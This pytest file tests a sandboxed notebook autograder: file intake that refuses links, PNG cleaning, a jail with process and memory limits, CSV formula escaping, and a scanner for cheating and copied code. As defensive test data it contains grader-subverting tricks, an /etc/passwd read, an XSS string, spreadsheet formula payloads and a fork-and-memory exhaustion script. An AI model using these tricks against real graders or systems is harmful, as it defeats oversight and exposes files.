"""The autograder's parts, each on its own: intake, comparison, PNG cleaning, the scan, the
jail's command and limits, the release, and the hidden checks' reference against diffusers."""
from __future__ import annotations

import base64
import csv
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from autograder import checks, release
from autograder import notebook as nbu
from autograder.driver import clean_png
from autograder.intake import copy_plain
from autograder.sandbox import (
    Cgroup,
    Limits,
    SandboxUnavailable,
    check_sandbox,
    jail_command,
    own_for_jail,
)
from autograder.scan import scan_source

REPO = Path(__file__).resolve().parents[1]
SOURCE = REPO / "solutions" / "ema" / "ema.ipynb"
RELEASE = REPO / "assignments" / "ema" / "ema.ipynb"


def _sandbox_problem():
    try:
        check_sandbox()
    except SandboxUnavailable as e:
        return str(e)
    return None


SANDBOX_PROBLEM = _sandbox_problem()
needs_bwrap = pytest.mark.skipif(SANDBOX_PROBLEM is not None,
                                 reason=f"bubblewrap cannot run here: {SANDBOX_PROBLEM}")


def test_intake_takes_plain_files_only(tmp_path):
    src, dest = tmp_path / "sub", tmp_path / "copy"
    (src / "data").mkdir(parents=True)
    (src / "data" / "a.txt").write_text("ok")
    (src / "secret").write_text("outside")
    (src / "link").symlink_to(src / "secret")
    (src / "dirlink").symlink_to(src / "data")
    (src / "dangling").symlink_to("/nonexistent")
    (src / "home").write_text("a file named home")
    (src / ".home").mkdir()
    (src / ".home" / "startup.py").write_text("x")
    (src / "big.bin").write_bytes(b"0" * (21 * 2**20))
    os.mkfifo(src / "fifo")
    notes = copy_plain(src, dest)
    got = sorted(str(p.relative_to(dest)) for p in dest.rglob("*"))
    assert got == ["data", "data/a.txt", "home", "secret"], got
    assert not any(p.is_symlink() for p in dest.rglob("*"))
    text = "; ".join(notes)
    assert text.count("symbolic link") == 3 and "not a regular file" in text
    assert "size limit" in text and "reserves" in text
    linked = tmp_path / "linked"
    linked.symlink_to(src)
    assert "not a plain folder" in copy_plain(linked, tmp_path / "c2")[0]
    assert not list((tmp_path / "c2").iterdir())


def test_match_is_strict_plain_data():
    assert checks.match(0.1, 0.1 + 1e-13, 1e-12, 0)[0]
    assert not checks.match(True, 1, 1e-12, 0)[0]  # a bool is not a number
    assert not checks.match(float("nan"), 0.0, 1, 1)[0]
    assert not checks.match("0.5", 0.5, 1, 0)[0]
    assert not checks.match({"unsupported": "Yes"}, 0.5, 1, 0)[0]
    t = {"tensor": [[1.0, 2.0]], "shape": [1, 2]}
    assert checks.match({"tensor": [[1.0, 2.0000001]], "shape": [1, 2]}, t, 1e-6, 0)[0]
    assert not checks.match({"tensor": [1.0, 2.0], "shape": [2]}, t, 1e-6, 0)[0]
    assert not checks.match({"tensor": [[1.0, 2.0]], "shape": [1, 2], "x": 1}, t, 1e-6, 0)[0]
    assert checks.match(0.5, 0.55, 0, 0.1)[0] and not checks.match(0.5, 0.6, 0, 0.1)[0]


def test_plan_sends_inputs_only():
    spec = checks.spec(nbu.read(SOURCE))
    assert sum(len(v) for v in spec.values()) > 100
    plan = checks.plan([("cell", "x = 1"), ("check", "test_measured_ratio"), ("cell", "y")],
                       spec, 10)
    assert [next(iter(i)) for i in plan["items"]] == ["cell", "check"]  # cells after: dropped
    for case in plan["items"][1]["cases"]:
        assert not set(case) & {"want", "atol", "rtol"}


def test_release_strips_the_hidden_checks_and_says_how_it_is_graded():
    rel = "\n".join(c.source for c in nbu.read(RELEASE).cells)
    assert "check(" not in rel and "HIDDEN" not in rel and "_diffusers_get_decay" not in rel
    assert "Passing the visible tests does not mean full marks" in rel


def test_clean_png_keeps_pixels_drops_text():
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "SECRET-CHUNK")
    buf = io.BytesIO()
    Image.new("RGB", (3, 2), "red").save(buf, "PNG", pnginfo=info)
    assert b"SECRET-CHUNK" in buf.getvalue()
    clean = base64.b64decode(clean_png(base64.b64encode(buf.getvalue()).decode()))
    assert b"SECRET-CHUNK" not in clean and b"tEXt" not in clean
    with Image.open(io.BytesIO(clean)) as im:
        assert im.size == (3, 2) and im.convert("RGB").getpixel((0, 0)) == (255, 0, 0)
    assert clean_png("not base64 <img src=x onerror=alert(1)>") is None
    assert clean_png(base64.b64encode(b"\x89PNG\r\n\x1a\nrest").decode()) is None
    assert clean_png(base64.b64encode(b"GIF89a").decode()) is None


def test_scan_flags_known_tricks():
    tricks = {"get_ipython().input_transformers_cleanup.append(f)": "ipython-transformers",
              "get_ipython().set_custom_exc((Exception,), h)": "custom-exception-handler",
              "import os\nos._exit(0)": "os._exit",
              "import sys\nsys.modules['numpy'] = fake": "sys.modules-tampering",
              "__builtins__.AssertionError = Warning": "builtins-tampering",
              "np.testing.assert_allclose = lambda *a, **k: None": "testing-monkeypatch",
              "f = sys._getframe(1).f_globals": "frame-or-object-walking",
              "import gc\ngc.get_objects()": "frame-or-object-walking",
              "sys.settrace(t)": "tracing-hook",
              "open('/etc/passwd').read()": "file-access-outside-submission"}
    for code, name in tricks.items():
        assert name in scan_source(code), code
    honest = ("import numpy as np\nx = np.ones(3)  # os._exit is not called here\n"
              "assert x.sum() == 3\nmods = sys.modules['numpy']\n")
    assert scan_source(honest) == []


def test_jail_command_mounts_and_limits(tmp_path):
    if shutil.which("bwrap") is None:
        pytest.skip("bwrap not installed")
    cmd = jail_command(tmp_path, ["python"], Limits(cpu_seconds=7, memory_mb=100, processes=9))
    k = cmd.index("prlimit")
    assert cmd[k + 1:k + 6] == ["--cpu=7", f"--as={100 * 2**20}", "--core=0",
                                f"--fsize={200 * 2**20}", "--nproc=9"]
    assert "--unshare-net" in cmd or "--unshare-all" in cmd
    assert "--die-with-parent" in cmd and "--clearenv" in cmd
    if os.geteuid() == 0:
        assert "setpriv" in cmd and "--no-new-privs" in cmd
    mounted = {cmd[i + 2] for i, a in enumerate(cmd) if a in ("--bind", "--ro-bind")}
    assert str(tmp_path.resolve()) in mounted
    assert not any(m == str(REPO) or m.startswith(str(REPO / "solutions")) for m in mounted)
    env = {cmd[i + 1]: cmd[i + 2] for i, a in enumerate(cmd) if a == "--setenv"}
    assert env["HOME"] == f"{tmp_path.resolve()}/.home"
    assert env["IPYTHONDIR"].startswith(env["HOME"]) and env["MPLCONFIGDIR"].startswith(env["HOME"])


@needs_bwrap
def test_jail_limits_the_whole_tree(tmp_path):
    """Processes and memory are limited for the jail's whole tree, not per process."""
    limits = Limits(memory_mb=400, processes=24)
    own_for_jail(tmp_path, 3)
    cg = Cgroup.create(f"autograder-test-{os.getpid()}-{tmp_path.name}", limits)
    code = """
import os, time
kids = []
for i in range(3):
    pid = os.fork()
    if pid == 0:
        b = bytearray(250 * 2**20)
        time.sleep(1)
        os._exit(0)
    kids.append(pid)
print("mem", sorted(os.waitpid(k, 0)[1] for k in kids))
n = 0
try:
    for i in range(60):
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
        n += 1
except OSError:
    pass
print("forks", n, "uid", os.getuid())
"""
    try:
        out = subprocess.run(jail_command(tmp_path, [sys.executable, "-c", code], limits, slot=3,
                                          cgroup=cg), capture_output=True, text=True, timeout=120,
                             check=False)
    finally:
        events = cg.events() if cg else {}
        if cg:
            cg.destroy()
    forks = int(out.stdout.split("forks ")[1].split()[0])
    assert forks < 24, out.stdout
    if os.geteuid() == 0:
        assert "uid 0" not in out.stdout
    if cg is not None:  # 3 x 250 MB under 400 MB for the whole tree: someone was killed
        assert "9" in out.stdout.split("mem ")[1].split("\n")[0], (out.stdout, events)
        assert events["oom_kill"] >= 1 and events["pids_max"] >= 1, events


def test_refuses_to_run_unsandboxed_without_the_flag(tmp_path):
    env = dict(os.environ, PATH=str(Path(sys.executable).parent))  # no bwrap on PATH
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(tmp_path),
                           "--out", str(tmp_path / "out")], cwd=REPO, env=env,
                          capture_output=True, text=True, check=False)
    assert proc.returncode == 2 and "--unsafe-no-sandbox" in proc.stderr


def test_unsafe_mode_is_explicit_and_recorded(tmp_path):
    (tmp_path / "subs" / "bob" / "ema").mkdir(parents=True)
    shutil.copy(RELEASE, tmp_path / "subs" / "bob" / "ema" / "ema.ipynb")
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(tmp_path / "subs"),
                           "--out", str(tmp_path / "out"), "--unsafe-no-sandbox", "--checks-only"],
                          cwd=REPO, capture_output=True, text=True, timeout=600, check=False)
    assert proc.returncode == 0 and "WITHOUT a sandbox" in proc.stderr, proc.stderr[-2000:]
    with open(tmp_path / "out" / "grades.csv", newline="") as f:
        row = next(csv.DictReader(f))
    assert row["sandbox"] == "NONE (--unsafe-no-sandbox)" and float(row["total"]) == 0


def test_a_reference_that_fails_its_own_checks_stops_the_batch(tmp_path):
    course = tmp_path / "course"
    for d in ("solutions", "assignments"):  # ema only: the other assignments' references cost time
        shutil.copytree(REPO / d / "ema", course / d / "ema")
    nb = nbu.read(course / "solutions" / "ema" / "ema.ipynb")
    c = next(c for c in nb.cells if nbu.grade_id(c) == "variance_impl")
    c.source = c.source.replace("return (1 - beta) * (1 + a * beta)", "return 0.5 * (1 + a * beta)")
    nbformat.write(nb, str(course / "solutions" / "ema" / "ema.ipynb"))
    (tmp_path / "subs").mkdir()
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(tmp_path / "subs"),
                           "--out", str(tmp_path / "out"), "--course", str(course),
                           "--unsafe-no-sandbox"], cwd=REPO, capture_output=True, text=True,
                          timeout=600, check=False)
    assert proc.returncode == 2 and "reference solution fails test_predicted_ratio" in proc.stderr


def test_release_is_fresh():
    assert release.stale(REPO) == []


def test_hidden_reference_and_solution_match_diffusers():
    """The hidden checks' transcribed schedule and the reference solution equal EMAModel."""
    import warnings

    import torch
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from diffusers.training_utils import EMAModel
    src = nbu.read(SOURCE)
    ns: dict = {"check": lambda *a, **k: None, "tensor": checks.tensor, "arg": checks.arg}
    hidden = next(c for c in src.cells if nbu.grade_id(c) == "test_decay_default_schedule")
    exec(hidden.source.split("### BEGIN HIDDEN TESTS")[1].split("### END")[0], ns)  # noqa: S102
    exec(nbu.solution_text(next(c for c in src.cells  # noqa: S102 - our own source
                                if nbu.grade_id(c) == "ema_impl").source), ns)
    cases = [{}, {"decay": 0.99, "min_decay": 0.3, "update_after_step": 4},
             {"use_ema_warmup": True}, {"use_ema_warmup": True, "inv_gamma": 2.0, "power": 0.75,
                                             "decay": 0.999, "min_decay": 0.5, "update_after_step": 2}]
    param = [torch.nn.Parameter(torch.zeros(2))]
    for kw in cases:
        ema = EMAModel(param, **kw)
        for s in [1, 2, 3, 5, 17, 300, 10**5]:
            want = ema.get_decay(s)
            assert ns["_diffusers_get_decay"](s, **kw) == pytest.approx(want, abs=1e-12)
            assert ns["ema_decay"](s, **kw) == pytest.approx(want, abs=1e-12)
    g = torch.Generator().manual_seed(0)
    model = torch.nn.Linear(3, 2)
    oracle = EMAModel(model.parameters(), use_ema_warmup=True, power=0.75)
    mine = [p.detach().clone() for p in model.parameters()]
    for step in range(1, 31):
        with torch.no_grad():
            for p in model.parameters():
                p.add_(torch.randn(p.shape, generator=g))
        oracle.step(model.parameters())
        ns["ema_update_"](mine, list(model.parameters()),
                          ns["ema_decay"](step, use_ema_warmup=True, power=0.75))
    for a, b in zip(mine, oracle.shadow_params):
        torch.testing.assert_close(a, b, atol=1e-6, rtol=1e-6)


# ---- code the student did not write (issue 25) ------------------------------------------

def _decl(assignment):
    from autograder import scan

    return scan.declaration(nbu.read(REPO / "solutions" / assignment / f"{assignment}.ipynb"))


def test_scan_flags_borrowed_code_in_a_cell():
    """reference-import anywhere; a library equivalent only inside a part that forbids it;
    a pasted reference function whatever its names and layout."""
    borrowed = {
        "from reference_impl.training.ema import EMA": "reference-import (reference_impl.training.ema)",
        "def f():\n    import importlib\n    return importlib.import_module('reference_impl.data.balance')":
            "reference-import (reference_impl.data.balance)",
        "import reference_impl.distributed.allreduce as ar": "reference-import (reference_impl.distributed.allreduce)",
        "def ema_decay(s, **kw):\n    from diffusers import EMAModel\n    return EMAModel([], **kw).get_decay(s)":
            "library-equivalent (diffusers.EMAModel in ema_decay)",
        "import torch.distributed as d\ndef ring_all_reduce_dist(t):\n    d.all_reduce(t)\n    return 0":
            "library-equivalent (torch.distributed.all_reduce in ring_all_reduce_dist)",
        "def ring_all_reduce_dist(t):\n    getattr(dist, 'all_gather')(t)":
            "library-equivalent (torch.distributed.all_gather in ring_all_reduce_dist)",
        "from torch.utils.data import WeightedRandomSampler as W\nclass DistributedWeightedSampler:\n"
        "    def __iter__(self):\n        return iter(W(self.w, 3))":
            "library-equivalent (torch.utils.data.WeightedRandomSampler in DistributedWeightedSampler)",
    }
    for code, flag in borrowed.items():
        assert flag in scan_source(code), (code, scan_source(code))
    allowed = ("from torch.utils.data import WeightedRandomSampler\n"  # Part C may: the text says so
               "def train_denoiser(x, labels, balanced, seed):\n"
               "    return list(WeightedRandomSampler([0.5, 0.5], 4))\n"
               "def ring_time(n, nbytes, alpha, beta):\n"  # the text's formula: too small to judge
               "    return 2 * (n - 1) * alpha + 2 * (n - 1) / n * nbytes * beta\n")
    assert scan_source(allowed) == []
    ref = (REPO / "reference_impl" / "training" / "ema.py").read_text()
    k = ref.index("    def get_decay")
    method = ref[k:ref.index("    @torch.no_grad()", k)]
    pasted = ("class Mine:\n" + method.replace("get_decay", "when").replace("self", "me")
              .replace("optimization_step", "i").replace(" k ", " n ").replace("(k", "(n")
              .replace("k /", "n /").replace("k)", "n)").replace('"""', "'''") + "    # tidied\n")
    assert "copied-reference-code (Mine.when = reference_impl.training.ema.EMA.get_decay)" in \
        scan_source(pasted), pasted
    hidden = ("match 1:\n    case 1:\n        from torch.optim.swa_utils import get_ema_multi_avg_fn\n"
              "        def ema_update_(e, p, d):\n            get_ema_multi_avg_fn(d)(e, p, None)\n")
    assert "library-equivalent (torch.optim.swa_utils in ema_update_)" in scan_source(hidden)
    assert scan_source("model.eval()\nexec(pasted_as_a_string)") == ["dynamic-code"]
    # code Python compiles but this scan cannot walk (nested too deeply): it fails closed
    assert scan_source("def f():\n    return a" + ".b" * 900) == [
        "unreadable-code (nested too deeply to scan in cell 0)"]


def test_borrowed_code_costs_its_part_only():
    """A finding costs the tests of the part whose functions reach it - through helpers, not
    into another part's functions (which their own tests grade)."""
    from autograder import scan

    decl = _decl("balance")
    ref = (REPO / "reference_impl" / "data" / "balance.py").read_text()
    pasted = ref[ref.index("def class_counts"):ref.index("def loss_weights")]
    cells = ["import math\nimport torch\n" + pasted,
             ("def sample_weights(labels, method='inverse', beta=0.999, temperature=2.0):\n"
              "    return balanced_weights(labels, method, beta, temperature)[1]"),
             ("from torch.utils.data import WeightedRandomSampler\n"
              "def _draw(w, n, g):\n    return list(WeightedRandomSampler(w, n, generator=g))\n"
              "class DistributedWeightedSampler:\n    def __iter__(self):\n"
              "        return iter(_draw(self.weights, 4, None))"),
             ("def train_denoiser(x, labels, balanced, seed):\n"
              "    return sample_weights(labels), list(DistributedWeightedSampler())")]
    found = scan.part_findings(cells, decl)
    names = [p["name"] for p in decl["parts"]]
    a, b, c = (found[names.index(n)] for n in
               ("Part A, sample_weights", "Part B, DistributedWeightedSampler",
                "Part C, train_denoiser"))
    assert {f.what for f in a} >= {"reference_impl.data.balance.balanced_weights",
                                   "reference_impl.data.balance.class_probabilities"}
    assert {f.kind for f in b} == {"library-equivalent"}  # through the helper _draw
    assert c == []  # uses both parts' functions: their own tests pay
    deep = scan.part_findings(cells + ["def g():\n    return a" + ".b" * 900], decl)
    assert all(any(f.kind == "unreadable-code" for f in found) for found in deep)


def test_plan_marks_borrowed_parts_and_score_takes_them():
    spec = checks.spec(nbu.read(SOURCE))
    assert spec["test_decay_first_steps"][0]["declared"]["withhold"]
    cell = ("import torch\nfrom torch.optim.swa_utils import get_ema_multi_avg_fn\n"
            "def ema_update_(e, p, d):\n    get_ema_multi_avg_fn(d)(e, p, None)\n")
    items = [("cell", cell), ("check", "test_update_simple"), ("check", "test_decay_first_steps")]
    plan = checks.plan(items, spec, 10)
    sent = [c for i in plan["items"] if "cases" in i for c in i["cases"]]
    assert not any(set(c) & {"declared", "not_written", "measure", "want"} for c in sent)
    assert "torch.optim.swa_utils" in spec["test_update_simple"][0]["not_written"]
    assert "not_written" not in spec["test_decay_first_steps"][0]
    good = [{"value": {"args": [{"tensor": [0.1, 1.8], "shape": [2]}]}},
            {"value": {"args": [{"tensor": [[0.25, 0.5], [1.5, 0.5]], "shape": [2, 2]}]}}]
    exp = [({"args": g["value"]["args"]}, 1e-6, 0.0) for g in good]
    ok, msg = checks.score("test_update_simple", spec["test_update_simple"], exp, good, "")
    assert not ok and "did not write" in msg and "its checks: all 2 checks passed" in msg
    checks.plan([("cell", "x = 1"), ("check", "test_update_simple")], spec, 10)
    assert "not_written" not in spec["test_update_simple"][0]  # a fresh plan clears the mark


def test_a_measure_runs_on_the_trusted_side():
    src = ("### BEGIN HIDDEN TESTS\n"
           "def _mean(values):\n    return sum(values) / len(values)\n"
           "check('draws', 3, measure=_mean, want=0.5, atol=0.1)\n"
           "### END HIDDEN TESTS\n")
    case = checks.cases_of(src)[0]
    assert case["measure"]["name"] == "_mean" and "_mean" in case["measure"]["code"]
    assert "measure" not in checks.inputs_only([case])[0]
    assert checks.measured(case, {"return": [0.4, 0.6, 0.5]}) == {"return": 0.5}
    assert checks.score("t", [case], [({"return": 0.5}, 0.1, 0.0)],
                        [{"value": {"return": [0.0, 0.1]}}], "")[0] is False
    assert checks.score("t", [case], [({"return": 0.5}, 0.1, 0.0)],
                        [{"value": {"return": [0.5, 0.5]}}], "")[0] is True
    msg = checks.score("t", [case], [({"return": 0.5}, 0.1, 0.0)],
                       [{"value": {"return": "not numbers"}}], "")[1]
    assert "could not measure" in msg


def test_short_runs_need_a_simulation():
    """Assignment 1 Part C: on the hidden short runs the stationary prediction misses by more
    than the tolerance, and the solution's simulation is within it."""
    src = nbu.read(SOURCE)
    ns: dict = {}
    exec(nbu.solution_text(next(c for c in src.cells  # noqa: S102 - our own source
                                if nbu.grade_id(c) == "variance_impl").source), ns)
    short = [c for c in checks.spec(src)["test_measured_ratio"] if c["kwargs"]["steps"] < 1000]
    assert len(short) >= 3
    for c in short:
        h, lr, sigma, beta = c["args"]
        predicted = ns["predicted_variance_ratio"](1 - lr * h, beta)
        assert abs(predicted - c["want"]) > 3 * c["rtol"] * c["want"], c
        got = ns["measured_variance_ratio"](h, lr, sigma, beta, **c["kwargs"])
        assert abs(got - c["want"]) <= 0.5 * c["rtol"] * c["want"], (c, got)


def test_declarations_are_valid_and_the_solutions_borrow_nothing():
    assert release.declaration_problems(REPO) == []
    for a in ("ema", "balance", "allreduce"):
        rel = nbu.read(REPO / "assignments" / a / f"{a}.ipynb")
        assert rel.metadata["autograder"] == nbu.read(REPO / "solutions" / a / f"{a}.ipynb"
                                                      ).metadata["autograder"]
        assert "Write the code yourself" in rel.cells[0].source


@needs_bwrap
def test_the_jail_does_not_offer_withheld_modules(tmp_path):
    from autograder import scan

    withheld = scan.course_declaration()["withhold"]
    assert {"reference_impl.training.ema", "reference_impl.data.balance",
            "reference_impl.distributed.allreduce", "diffusers.training_utils"} <= set(withheld)
    code = f"""
import importlib, os
for m in {withheld!r} + ["reference_impl.data.shapes", "reference_impl.distributed.zero"]:
    try:
        importlib.import_module(m)
        print("IMPORTED", m)
    except ImportError as e:
        print("REFUSED", m, "asks you to write it" in str(e))
path = {str(scan.module_file("reference_impl.training.ema"))!r}
print("SOURCE", "EMA" in open(path).read(), os.listdir(os.path.join(os.path.dirname(path), "__pycache__")))
"""
    own_for_jail(tmp_path, 0)
    out = subprocess.run(jail_command(tmp_path, [sys.executable, "-c", code], Limits()),
                         capture_output=True, text=True, timeout=300, check=False).stdout
    for m in withheld:
        assert f"REFUSED {m} True" in out, out
    assert "IMPORTED reference_impl.data.shapes" in out and "IMPORTED reference_impl.distributed.zero" in out
    assert "SOURCE False []" in out, out


# ---- what the trusted side trusts (issue 25, item 2) ---------------------------------------

def test_intake_refuses_hard_links_and_linked_parents(tmp_path):
    """(b) A file with another name (a hard link) is not taken, even one to a file outside the
    submission; a student or assignment folder that is a link is not entered."""
    outside = tmp_path / "solutions.ipynb"
    outside.write_text("the course's source")
    src = tmp_path / "subs" / "bob" / "ema"
    src.mkdir(parents=True)
    os.link(outside, src / "ema.ipynb")
    (src / "mine.txt").write_text("mine")
    os.link(src / "mine.txt", src / "again.txt")  # both names inside: refused too
    (src / "plain.txt").write_text("plain")
    notes = copy_plain(src, tmp_path / "copy", nofollow=2)
    assert sorted(p.name for p in (tmp_path / "copy").iterdir()) == ["plain.txt"]
    assert sum("a hard link" in n for n in notes) == 3, notes
    (tmp_path / "subs" / "eve").symlink_to(tmp_path / "subs" / "bob")  # a peer's folder
    notes = copy_plain(tmp_path / "subs" / "eve" / "ema", tmp_path / "c2", nofollow=2)
    assert "not a plain folder" in notes[0] and not list((tmp_path / "c2").iterdir())


def test_results_are_read_from_the_file_the_grader_made(tmp_path):
    """(a) The jail replaces results.jsonl with a link to another student's results: the
    grader reads the file it created, through the descriptor it opened first."""
    from autograder import driver

    peer = tmp_path / "peer.jsonl"
    peer.write_text('{"check": "test_x", "results": [{"value": {"return": 1}}]}\n')
    path = tmp_path / "results.jsonl"
    path.write_text("a copy from the submission\n")
    fd = driver._create(path)
    os.write(os.open(path, os.O_WRONLY | os.O_APPEND),
             b'{"check": "test_x", "results": [{"error": "missing"}]}\n')  # the harness
    assert not driver._replaced(path, fd)
    path.unlink()
    path.symlink_to(peer)
    assert driver._replaced(path, fd)
    assert checks.read_results(fd) == {"test_x": [{"error": "missing"}]}
    (tmp_path / "plan.json" / "sub").mkdir(parents=True)  # a folder of that name, submitted
    os.close(driver._create(tmp_path / "plan.json", b"{}"))
    assert (tmp_path / "plan.json").read_text() == "{}"


def test_kernel_sockets_are_reached_by_descriptor(tmp_path):
    """(a) The kernel's sockets are opened O_PATH|O_NOFOLLOW in the .ipc folder held from the
    start; a link there is refused; nothing is removed by path at cleanup."""
    import socket as socketlib
    import stat

    from autograder.kernel import JailedKernelManager

    (tmp_path / ".ipc").mkdir()
    km = JailedKernelManager(tmp_path, Limits(), sandbox=False)
    km.socket_wait = 0.3
    try:
        s = socketlib.socket(socketlib.AF_UNIX)
        s.bind(str(tmp_path / ".ipc" / "kernel-1"))
        (tmp_path / "host.sock").touch()
        (tmp_path / ".ipc" / "kernel-2").symlink_to(tmp_path / "host.sock")
        km.shell_port, km.iopub_port, km.hb_port = 1, 2, 3
        url = km._make_url("shell")
        fd = int(url.rsplit("/", 1)[1])
        assert url.startswith("ipc:///proc/self/fd/") and stat.S_ISSOCK(os.fstat(fd).st_mode)
        with pytest.raises(RuntimeError, match="not a socket of the jail"):
            km._make_url("iopub")
        with pytest.raises(RuntimeError, match="no socket"):
            km._make_url("hb")
        # .ipc moved away and replaced by a link: the held folder is still the one used
        (tmp_path / ".ipc").rename(tmp_path / ".ipc-moved")
        (tmp_path / ".ipc").symlink_to(tmp_path / "elsewhere")
        assert km._make_url("shell") == url
        km.connection_file = str(tmp_path / ".ipc" / "kernel.json")
        km._connection_file_written = True
        km.cleanup_connection_file()
        km.cleanup_ipc_files()
        assert (tmp_path / ".ipc-moved" / "kernel-1").exists()
        assert "-P" in km.format_kernel_cmd()[:3] or km.format_kernel_cmd()[1:2] != ["-m"]
        s.close()
    finally:
        km.close_descriptors()


def test_csv_cells_never_start_a_formula(tmp_path):
    """(c) Text a spreadsheet would run (=, +, -, @, tab, CR) is written after a ', in
    grades.csv, manual_grades.csv and manual entries, and read back as it was."""
    import json

    from autograder import batch

    for v in ("=1+1", "+A1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=x", "''", "\uff1d1"):
        assert batch.csv_value(batch.csv_text(v)) == v and batch.csv_text(v).startswith("'")
    for v in ("plain", "", 3.5, None, "a=1"):
        assert batch.csv_text(v) == v
    answer = '=HYPERLINK("https://example.org/?"&C2, "see")'
    res = {"ema_derivation": {"kind": "manual", "max": 6.0, "points": None, "answer": answer,
                              "rubric": "r"}}
    records = [{"student": "-2+3", "assignment": "ema", "notes": ["@note"], "sandbox": "x",
                "graded": [{"notebook": "ema.ipynb", "results": res, "flags": [], "notes": [],
                            "cells": []}]}]
    (tmp_path / "results.json").write_text(json.dumps(records))
    batch.write_outputs(tmp_path, REPO, json.loads(json.dumps(records)))
    batch.enter_manual(tmp_path, REPO, "-2+3", "ema", "ema_derivation", 5.0)
    for name in ("grades.csv", "manual_grades.csv"):
        with open(tmp_path / name, newline="") as f:
            cells = [v for row in csv.reader(f) for v in row]
        assert not [v for v in cells if v[:1] in batch.FORMULA_START], (name, cells)
    assert batch.read_manual(tmp_path)[("-2+3", "ema", "ema_derivation")]["points"] == "5.0"
    with open(tmp_path / "grades.csv", newline="") as f:
        row = next(csv.DictReader(f))
    assert row["student"] == "'-2+3" and float(row["ema_derivation"]) == 5.0
    assert "the answer starts like a spreadsheet formula" in row["notes"]


def test_harness_binds_the_course_names_at_every_check(tmp_path):
    """(d) A student cell after a course cell redefines its helper: the check calls the
    course's (and so do the student's functions during the check); the student's binding is
    back for the cells after it."""
    import json

    from autograder import harness

    plan = {"cell_timeout": 30, "items": [
        {"cell": "def helper(x):\n    return x + 1\nimport math as m\n", "course": True},
        {"cell": "helper = lambda x: 100\nm = None\ndef mine(x):\n    return helper(x) * 10\n"},
        {"check": "t1", "cases": [{"call": "helper", "args": [1]}, {"call": "mine", "args": [1]},
                                  {"call": "uses_m", "args": []}]},
        {"cell": "y = helper(1)\ndef seen():\n    return y\n"},
        {"check": "t2", "cases": [{"call": "seen", "args": []}]},
        # a stand-in defined first, then the course's cell made to fail before its def
        {"cell": "def runner(v):\n    return 'stand-in'\nimport math\ndel math.floor\n"},
        {"cell": "from math import floor\ndef runner(v):\n    return v\n", "course": True},
        {"check": "t3", "cases": [{"call": "runner", "args": [1]}]}]}
    plan["items"][1]["cell"] += "def uses_m():\n    return m.floor(2.5)\n"
    (tmp_path / "plan.json").write_text(json.dumps(plan))
    env = dict(os.environ, OMP_NUM_THREADS="1")
    subprocess.run([sys.executable, "-I", harness.__file__, "plan.json", "results.jsonl"],
                   cwd=tmp_path, env=env, timeout=300, check=True)
    got = checks.read_results(tmp_path / "results.jsonl")
    assert [r["value"]["return"] for r in got["t1"]] == [2, 20, 2], got
    assert got["t2"][0]["value"]["return"] == 100, got
    assert got["t3"] == [{"error": "missing"}], got  # not the stand-in


def test_bound_names_and_redefinition_flags():
    from autograder import driver, harness

    maybe = set()
    assert harness.bound_names("import numpy as np\nimport torch.distributed\nx, *y = 1, 2\n"
                               "def f():\n    z = 1\nfor i in []:\n    k = 1\n"
                               "if x:\n    g = 1\nelse:\n    x = 2\n", maybe) == \
        {"np": "numpy", "torch": "torch", "x": None, "y": None, "f": None, "i": None,
         "k": None, "g": None}
    assert maybe == {"i", "k", "g"}
    cells = [nbformat.v4.new_code_cell("import torch\ndef ring_sums(v):\n    return v\n"),
             nbformat.v4.new_code_cell("import torch\nimport numpy as np\nx = 1\n"),
             nbformat.v4.new_code_cell("ring_sums = len\n%time x = 2\n")]
    for c, origin in zip(cells, ("source", "student", "student")):
        c.metadata["autograder"] = {"origin": origin}
    flags = driver.redefinition_flags(nbformat.v4.new_notebook(cells=cells))
    assert flags == [("extra cell 2: redefines the course's ring_sums (the checks use the "
                      "course's)")], flags


def test_uid_slots_are_claimed_across_batches():
    import socket as socketlib

    from autograder import batch
    from autograder.sandbox import UID_BASE

    other = socketlib.socket(socketlib.AF_UNIX)
    try:
        other.bind(f"\0autograder-uid-{UID_BASE}")  # another batch holds slot 0
    except OSError:
        pass  # a batch running here holds it: the same
    try:
        slots, held = batch.claim_slots(2)
        try:
            assert 0 not in slots and len(set(slots)) == 2
            again, held2 = batch.claim_slots(1)
            assert again[0] not in slots
            for h in held2:
                h.close()
        finally:
            for h in held:
                h.close()
    finally:
        other.close()
